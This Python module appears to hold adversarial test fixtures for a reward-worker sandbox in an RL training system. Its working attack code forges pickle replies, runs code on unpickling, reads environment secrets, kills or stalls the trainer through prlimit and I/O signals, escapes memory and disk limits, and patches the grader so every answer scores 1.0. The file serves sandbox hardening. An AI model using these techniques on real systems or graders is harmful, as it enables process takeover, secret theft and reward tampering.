"""Reward functions written as an attacker would: each runs inside a reward worker and tries to escape.

They are module-level so the worker can import them; ``metadata`` carries the
paths the test checks afterwards. Marker files are named after the trainer's pid
(``metadata["trainer_pid"]``): a marker with that name written by the trainer's
process is proof that worker-supplied code ran there.
"""

from __future__ import annotations

import os
import pickle
import struct


class _RunsOnUnpickle:
    """Unpickling this runs ``code`` (an expression) wherever it is unpickled."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (eval, (self.code,))


def touch_code(path: str) -> str:
    """An expression that creates ``path`` and is worth 1.0."""
    return f"__import__('pathlib').Path({path!r}).touch() or 1.0"


def forged_reply(marker: str) -> bytes:
    """A reply frame in multiprocessing's format whose unpickling creates ``marker`` and scores 1.0."""
    payload = pickle.dumps((0, True, _RunsOnUnpickle(touch_code(marker)), False))
    return struct.pack("!i", len(payload)) + payload


def write_to_every_fd(data: bytes) -> None:
    """Write ``data`` into every open descriptor 0-63 (one of them is the reply pipe)."""
    for fd in range(64):
        try:
            os.write(fd, data)
        except OSError:
            pass


def forge_pickle_reply(completion, answer, metadata):
    """Writes its own pickle into the reply pipe, then answers honestly."""
    write_to_every_fd(forged_reply(metadata["marker"]))
    return 0.0


def hostile_object(completion, answer, metadata):
    """Returns an object whose unpickling runs code in whoever unpickles it."""
    return _RunsOnUnpickle(touch_code(metadata["marker"]))


def garbage_reply(completion, answer, metadata):
    """Writes random bytes where the reply goes, then answers 1.0."""
    write_to_every_fd(os.urandom(256))
    return 1.0


def oversized_reply(completion, answer, metadata):
    """Announces a 1 GiB reply."""
    write_to_every_fd(struct.pack("!i", 2**30) + b"x" * 100)
    return 1.0


def half_reply_then_die(completion, answer, metadata):
    """Writes the start of a reply frame and exits."""
    write_to_every_fd(struct.pack("!i", 100) + b'{"kind": "res')
    os._exit(0)


def read_file_reward(completion, answer, metadata):
    """1.0 when the file ``metadata["path"]`` could be read."""
    with open(metadata["path"], "rb") as f:
        f.read(1)
    return 1.0


def env_secret_reward(completion, answer, metadata):
    """1.0 when the trainer's secret ``metadata["value"]`` is visible in the environment."""
    seen = "".join(os.environ.values())
    try:
        with open("/proc/self/environ", "rb") as f:
            seen += f.read().decode(errors="replace")
    except OSError:
        pass
    return 1.0 if metadata["value"] in seen else 0.0


def terminal_forgery(completion, answer, metadata):
    """Writes a fake trainer line to stdout, stderr, stdin and the controlling terminal."""
    import sys

    line = metadata["line"]
    print(line, flush=True)
    print("\x1b[2K\r" + line, file=sys.stderr, flush=True)
    for fd in (0, 1, 2):
        try:
            os.write(fd, (line + "\n").encode())
        except OSError:
            pass
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(line + "\n")
    except OSError:
        pass
    return 1.0


def allocate_reward(completion, answer, metadata):
    """Allocates ``metadata["mb"]`` MB."""
    block = bytearray(metadata["mb"] * 2**20)
    return float(len(block) > 0)


def fork_reward(completion, answer, metadata):
    """A child process creates ``metadata["marker"]``."""
    pid = os.fork()
    if pid == 0:
        open(metadata["marker"], "w").close()
        os._exit(0)
    os.waitpid(pid, 0)
    return 1.0


def socket_reward(completion, answer, metadata):
    """Opens a UDP socket (no connection needed to show it is allowed)."""
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
    return 1.0


def honest_reward(completion, answer, metadata):
    return 1.0


TRAINER_PID = os.getppid()
"""At import, in a worker: its parent, the trainer (what an attacking reward module would note)."""


def _other_process_call(name: str, pid: int) -> None:
    """One system call on process ``pid`` that changes nothing (same value back) but needs the right to."""
    import resource

    if name == "prlimit":
        resource.prlimit(pid, resource.RLIMIT_CORE, resource.prlimit(pid, resource.RLIMIT_CORE))
    elif name == "setpriority":
        os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid))
    elif name == "sched_setaffinity":
        os.sched_setaffinity(pid, os.sched_getaffinity(pid))
    elif name == "kill":
        os.kill(pid, 0)
    elif name == "kill_group":
        os.kill(0, 0)  # the caller's process group
    elif name == "pidfd_open":
        os.close(os.pidfd_open(pid))
    elif name == "prctl_pdeathsig":
        import ctypes

        if ctypes.CDLL(None, use_errno=True).prctl(1, 0, 0, 0, 0) != 0:  # PR_SET_PDEATHSIG, 0: survive the trainer
            raise PermissionError(ctypes.get_errno(), "prctl(PR_SET_PDEATHSIG, 0) refused")
    else:
        raise ValueError(name)


OTHER_PROCESS_CALLS = ("prlimit", "setpriority", "sched_setaffinity", "kill", "kill_group", "pidfd_open", "prctl_pdeathsig")


def other_process_reward(completion, answer, metadata):
    """1.0 when ``metadata["call"]`` (``OTHER_PROCESS_CALLS``) on ``metadata["pid"]`` (the trainer) worked."""
    _other_process_call(metadata["call"], metadata["pid"])
    return 1.0


def other_process_code(name: str, pid: int) -> str:
    """Python source that does ``_other_process_call(name, pid)`` without importing this module."""
    import inspect

    return inspect.getsource(_other_process_call) + f"\n_other_process_call({name!r}, {pid})\n"


def lower_trainer_cpu_limit(completion, answer, metadata):
    """The attack itself: the trainer's CPU limit set to 1 s (the kernel kills it at once)."""
    import resource

    resource.prlimit(TRAINER_PID, resource.RLIMIT_CPU, (1, 1))
    return 1.0


def shared_memory_reward(completion, answer, metadata):
    """Allocates ``metadata["mb"]`` MB outside the address-space limit: memfd, or System V shared memory."""
    import ctypes
    import mmap

    size = metadata["mb"] * 2**20
    if metadata["kind"] == "memfd":
        fd = os.memfd_create("x")
        os.ftruncate(fd, size)
        mmap.mmap(fd, size).write(b"x" * 4096)  # kept open: a forked copy would keep it alive
        return 1.0
    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(0, ctypes.c_size_t(size), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600; never removed
    if shmid < 0:
        raise PermissionError(ctypes.get_errno(), "shmget refused")
    return 1.0


def _verdict(completion: str) -> float:
    return 1.0 if completion == "right" else 0.0


def patching_reward(completion, answer, metadata):
    """``"patch"`` rewrites this module's verdict so that every later answer scores 1.0 (in its process)."""
    import sys

    if completion == "patch":
        sys.modules[__name__]._verdict = lambda completion: 1.0
        return 0.0
    return _verdict(completion)


def leftovers_reward(completion, answer, metadata):
    """``"leave"`` leaves a file in the working directory; any other call: 1.0 when it finds it."""
    if completion == "leave":
        with open("left-behind", "w") as f:
            f.write("from an earlier call")
        return 0.0
    return float(os.path.exists("left-behind"))


def fill_directory_reward(completion, answer, metadata):
    """Writes ``metadata["mb"]`` MB into the working directory, in 8 MB files (each under the file-size limit)."""
    block = b"x" * 2**20
    for n in range(metadata["mb"] // 8):
        with open(f"fill-{n}", "wb") as f:
            for _ in range(8):
                f.write(block)
    return 1.0


def shrink_request_pipe(completion, answer, metadata):
    """Shrinks every pipe it holds to one page and stops reading requests (its process goes on)."""
    import fcntl

    from lit_rlvr.rewards.workers import protocol

    for fd in range(3, 64):
        try:
            fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ
        except OSError:
            pass
    protocol.read_frame = lambda fd: __import__("time").sleep(3600)  # a worker serving calls reads no more
    return 1.0


def outlive_trainer(completion, answer, metadata):
    """Removes its parent-death signal, fools an orphan check, and waits for the trainer to die."""
    import ctypes
    import time

    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0
    parent = os.getppid()
    os.getppid = lambda: parent  # an exit-on-orphan loop would see its parent forever
    time.sleep(60)
    return 1.0


def _io_signal_attack(pid: int, sig: int) -> list[str]:
    """Make ``pid`` the I/O-signal owner of every descriptor 0-63, with signal ``sig``, and set ``O_ASYNC``,
    by every path (fcntl and ioctl): the kernel then signals ``pid`` when the other end of a pipe is used.
    Returns the settings that worked (``"<what>:<fd>"``)."""
    import fcntl
    import struct as _struct

    worked = []
    for fd in range(64):
        attempts = (
            ("F_SETOWN", lambda: fcntl.fcntl(fd, 8, pid)),
            ("F_SETOWN_EX", lambda: fcntl.fcntl(fd, 15, _struct.pack("ii", 1, pid))),  # F_OWNER_PID
            ("F_SETSIG", lambda: fcntl.fcntl(fd, 10, sig)),
            ("O_ASYNC", lambda: fcntl.fcntl(fd, 4, fcntl.fcntl(fd, 3) | os.O_ASYNC)),  # F_SETFL(F_GETFL | O_ASYNC)
            ("FIOASYNC", lambda: fcntl.ioctl(fd, 0x5452, _struct.pack("i", 1))),
            ("FIOSETOWN", lambda: fcntl.ioctl(fd, 0x8901, _struct.pack("i", pid))),
            ("SIOCSPGRP", lambda: fcntl.ioctl(fd, 0x8902, _struct.pack("i", pid))),
            ("O_NONBLOCK", lambda: os.set_blocking(fd, False)),
        )
        for what, call in attempts:
            try:
                call()
                worked.append(f"{what}:{fd}")
            except OSError:
                pass
    return worked


def io_signal_code(pid: int, sig: int) -> str:
    """Python source that runs ``_io_signal_attack(pid, sig)`` without importing this module."""
    import inspect

    return "import os\n" + inspect.getsource(_io_signal_attack) + f"\n_io_signal_attack({pid}, {sig})\n"


def kill_trainer_through_io_signals(completion, answer, metadata):
    """The trainer (``TRAINER_PID``, as a reward module notes it) as every descriptor's owner, with SIGKILL."""
    _io_signal_attack(TRAINER_PID, 9)
    return 1.0


def stop_zygote_through_io_signals(completion, answer, metadata):
    """The zygote (this call's parent) as every descriptor's owner, with SIGSTOP, and every pipe non-blocking:
    aimed at the next call of the same zygote."""
    _io_signal_attack(os.getppid(), 19)
    return 1.0


def io_signal_settings_that_worked(completion, answer, metadata):
    """The owner, signal and async settings that worked on this call's descriptors, aimed at the trainer."""
    worked = [w for w in _io_signal_attack(TRAINER_PID, 9) if not w.startswith("O_NONBLOCK")]
    return ",".join(worked)[:900]


def import_path_has_workdir(completion, answer, metadata):
    """1.0 when this call's own (writable) directory is on its import path."""
    import sys

    here = os.getcwd()
    return float(any(os.path.abspath(p or ".") == here for p in sys.path))
